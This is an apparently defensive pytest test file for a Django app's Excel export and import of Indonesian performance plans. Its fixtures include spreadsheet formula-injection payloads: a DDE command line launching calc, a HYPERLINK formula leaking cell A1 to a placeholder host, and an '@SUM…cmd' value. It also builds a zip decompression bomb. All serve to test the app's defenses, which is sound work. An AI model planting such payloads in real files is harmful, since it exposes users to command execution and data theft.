"""Excel in and out, hardened (issue 16, findings 6 and 7): user text goes out as text,
numbers as numbers at the indicator's decimals; the import refuses what it would misread."""

import dataclasses
import io
import zipfile
from decimal import Decimal as D

import openpyxl
import pytest
from django.utils import timezone

from kinerja import excel, services
from kinerja.excel import baca_rencana, ekspor_pengukuran, ekspor_rencana
from kinerja.selectors import pk_berlaku, tabel_pengukuran
from kinerja.tests.factories import PerjanjianKinerjaFactory, tim_sakip

pytestmark = pytest.mark.django_db

RUMUS = '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")'


def _lembar_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "".join(
            zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")
        )


def _sel_teks(data: bytes) -> dict[str, list]:
    wb = openpyxl.load_workbook(
        io.BytesIO(data)
    )  # formulas as written, not cached values
    return {
        ws.title: [
            (c.value, c.data_type)
            for row in ws.iter_rows()
            for c in row
            if isinstance(c.value, str)
        ]
        for ws in wb.worksheets
    }


def test_plan_export_writes_formula_looking_text_as_text():
    pk = PerjanjianKinerjaFactory(tahun=2030)
    actor = tim_sakip(pk)
    s = services.sasaran_create(perjanjian=pk, uraian="=1+1", kode="S1", actor=actor)
    services.indikator_create(
        actor=actor,
        sasaran=s,
        nama=RUMUS,
        satuan="=2*3",
        is_iku=True,
        target_tahunan=D("100"),
        target_triwulan={
            1: services.TargetTW(
                target=D("25"), target_maks=None, rencana_aksi="=cmd|' /C calc'!A0"
            )
        },
    )
    services.program_create(
        actor=actor,
        perjanjian=pk,
        kode="P1",
        nama="@SUM(1+1)*cmd",
        anggaran=D("1000"),
        anggaran_triwulan={},
    )
    data = ekspor_rencana(perjanjian=pk)
    assert "<f>" not in _lembar_xml(data)
    teks = _sel_teks(data)
    nilai = {v for v, _t in teks["Indikator"]} | {v for v, _t in teks["Program"]}
    assert {RUMUS, "=1+1", "=2*3", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd"} <= nilai
    assert {t for lembar in teks.values() for _v, t in lembar} == {"s"}
    # and the text comes back as the same text
    pratinjau = baca_rencana(data, perangkat_daerah=pk.perangkat_daerah)
    assert pratinjau.ok, [str(g) for g in pratinjau.galat]
    assert pratinjau.sasaran[0].indikator[0].nama == RUMUS


def test_measurement_export_writes_notes_as_text_and_numbers_at_the_indicators_decimals(
    demo, monkeypatch
):
    pk = pk_berlaku(pd=demo.dpmptsp, tahun=timezone.localdate().year)

    def tabel_dengan_rumus(**kwargs):
        tabel = tabel_pengukuran(**kwargs)
        b = tabel.sasaran[0].indikator[0]
        tabel.sasaran[0].indikator[0] = dataclasses.replace(
            b,
            nama=RUMUS,
            catatan='=HYPERLINK("http://x.invalid")',
            desimal=2,
            realisasi_ytd=D("81.66666666666666666666666667"),
            realisasi=D("80.125"),
        )
        return tabel

    monkeypatch.setattr(excel, "tabel_pengukuran", tabel_dengan_rumus)
    data = ekspor_pengukuran(perjanjian=pk, triwulan=2)
    assert "<f>" not in _lembar_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data))["Pengukuran"]
    header = [c.value for c in ws[4]]
    baris = ws[5]
    sel = {h: baris[i] for i, h in enumerate(header)}
    assert (
        sel["Indikator Kinerja"].value == RUMUS
        and sel["Indikator Kinerja"].data_type == "s"
    )
    assert sel["Catatan"].data_type == "s"
    ytd = sel["Realisasi s.d. TW II"]
    assert (
        ytd.data_type == "n" and ytd.value == 81.67 and ytd.number_format == "#,##0.00"
    )
    assert sel["Realisasi"].value == 80.13  # half up, as on screen
    assert all(
        c.data_type != "s" or not str(c.value)[:1].isdigit() for c in baris
    )  # no number as text


# --- import ------------------------------------------------------------------------------------

BARIS = [
    "S1",
    "Meningkatnya investasi",
    "I1",
    "Nilai investasi",
    "%",
    "Ya",
    "naik",
    "terakhir",
    2,
    None,
]


def _buku(baris_indikator=(), ubah=None) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(excel.templat_rencana()))
    for r in baris_indikator:
        wb[excel.LEMBAR_INDIKATOR].append(list(r))
    if ubah:
        ubah(wb[excel.LEMBAR_INDIKATOR])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _galat(pratinjau) -> list[str]:
    return [str(g) for g in pratinjau.galat]


def test_a_percent_formatted_target_is_read_in_percentage_points_and_the_preview_says_so():
    pk = PerjanjianKinerjaFactory(tahun=2030)

    def persen(ws):
        ws["K2"].number_format = "0%"  # typed as 85% in Excel: stored 0.85

    data = _buku(
        [
            [*BARIS, 0.85],
            [
                *BARIS[:2],
                "I2",
                "Kepuasan",
                "%",
                "Ya",
                "naik",
                "terakhir",
                2,
                None,
                "85",
            ],
        ],
        ubah=persen,
    )
    pratinjau = baca_rencana(data, perangkat_daerah=pk.perangkat_daerah)
    assert pratinjau.ok, _galat(pratinjau)
    persen_sel, teks_sel = pratinjau.sasaran[0].indikator
    assert persen_sel.target_tahunan == D("85") == teks_sel.target_tahunan
    assert [str(c) for c in pratinjau.catatan] == [
        "Indikator, baris 2, kolom Target Tahunan: Sel berformat persen: dibaca sebagai 85 (poin persen), bukan 0,85."
    ]


def test_a_formula_without_a_saved_value_is_refused_naming_row_and_column():
    pk = PerjanjianKinerjaFactory(tahun=2030)
    data = _buku(
        [[*BARIS, "=40+45"]]
    )  # openpyxl saves formulas without a calculated value
    pratinjau = baca_rencana(data, perangkat_daerah=pk.perangkat_daerah)
    assert not pratinjau.ok
    assert _galat(pratinjau) == [
        "Indikator, baris 2, kolom Target Tahunan: Sel berisi rumus tanpa nilai tersimpan. "
        "Buka berkas di Excel, simpan ulang, lalu unggah lagi; atau ketik nilainya."
    ]


def test_two_rows_with_one_indicator_code_are_refused_with_the_rows_named():
    pk = PerjanjianKinerjaFactory(tahun=2030)
    data = _buku(
        [
            [*BARIS, 80],
            [*BARIS[:3], "Nilai lain", *BARIS[4:], 90],
            [*BARIS[:2], "I9", "Beda", *BARIS[4:], 1],
        ]
    )
    pratinjau = baca_rencana(data, perangkat_daerah=pk.perangkat_daerah)
    assert _galat(pratinjau) == [
        "Indikator, baris 2, kolom Kode Indikator: Kode indikator dipakai juga di baris 3; setiap indikator perlu kode sendiri.",
        "Indikator, baris 3, kolom Kode Indikator: Kode indikator dipakai juga di baris 2; setiap indikator perlu kode sendiri.",
    ]


def test_merged_sasaran_cells_are_refused_saying_they_are_merged():
    pk = PerjanjianKinerjaFactory(tahun=2030)

    def gabung(ws):
        ws.merge_cells("A2:A3")
        ws.merge_cells("B2:B3")

    data = _buku(
        [[*BARIS, 80], [None, None, "I2", "Kepuasan", *BARIS[4:], 90]], ubah=gabung
    )
    pratinjau = baca_rencana(data, perangkat_daerah=pk.perangkat_daerah)
    pesan = _galat(pratinjau)
    assert len(pesan) == 1
    assert pesan[0].startswith(
        "Indikator, baris 3, kolom Sasaran Strategis: Sel ini bagian dari sel gabungan B2:B3"
    )
    assert "Isi sasaran strategis." not in pesan[0]


@pytest.mark.parametrize(
    "mb", [60, 8]
)  # past the size limit; within it but 1000 times its compressed size
def test_a_decompression_bomb_is_refused_before_it_is_opened(monkeypatch, mb):
    pk = PerjanjianKinerjaFactory(tahun=2030)
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(excel.templat_rencana())) as asal,
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf,
    ):
        for info in asal.infolist():
            zf.writestr(info.filename, asal.read(info.filename))
        with zf.open("xl/media/nol.bin", "w", force_zip64=True) as fh:
            nol = b"\0" * (1024 * 1024)
            for _ in range(mb):  # zeros: about 1 KB compressed per MB
                fh.write(nol)
    data = buf.getvalue()
    assert len(data) < 200 * 1024

    def tidak_boleh_dibuka(*args, **kwargs):
        raise AssertionError("openpyxl opened the bomb")

    monkeypatch.setattr(excel, "load_workbook", tidak_boleh_dibuka)
    pratinjau = baca_rencana(data, perangkat_daerah=pk.perangkat_daerah)
    [pesan] = _galat(pratinjau)
    assert pesan.startswith(
        f"Berkas: Isi berkas Excel terlalu besar setelah diurai ({mb} MB, "
    )
    assert pesan.endswith("kali ukuran berkas); berkas ditolak tanpa dibuka.")


def test_the_import_preview_page_shows_how_a_percent_cell_was_read(client, demo):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    def persen(ws):
        ws["K2"].number_format = "0.0%"

    data = _buku([[*BARIS, 0.855]], ubah=persen)
    client.force_login(demo["timsakip"].user)
    r = client.post(
        reverse("kinerja:impor"),
        {"tahun": 2031, "berkas": SimpleUploadedFile("pk.xlsx", data)},
    )
    teks = r.content.decode()
    assert "Berkas dapat diimpor" in teks
    assert (
        "Sel berformat persen: dibaca sebagai 85,5 (poin persen), bukan 0,855." in teks
    )
